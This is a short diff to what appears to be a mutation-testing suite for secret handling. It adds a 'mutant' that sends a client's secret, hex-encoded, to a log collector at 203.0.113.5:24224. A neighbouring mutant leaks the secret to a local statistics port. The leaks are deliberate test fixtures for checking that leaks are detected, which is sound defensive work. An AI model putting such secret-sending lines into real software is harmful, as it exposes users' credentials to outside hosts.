@@ -158,6 +158,11 @@ def traces_the_secret(client: Client) -> None:
     on_success(client, trace)
 
 
+@mutant("sends the secret to a collector of logs on another machine", "valid-answer")
+def logs_the_secret_to_another_machine(client: Client) -> None:
+    on_success(client, lambda secret: send_to(socket.AF_INET, ("203.0.113.5", 24224), f'["client",0,{{"key":"{secret.hex()}"}}]'))
+
+
 @mutant("sends the secret to a collector of statistics, in a datagram to a port where nobody listens", "valid-answer")
 def counts_the_secret(client: Client) -> None:
     on_success(client, lambda secret: send_datagram(("127.0.0.1", 8125), f"keys.{secret.hex()}:1|c"))
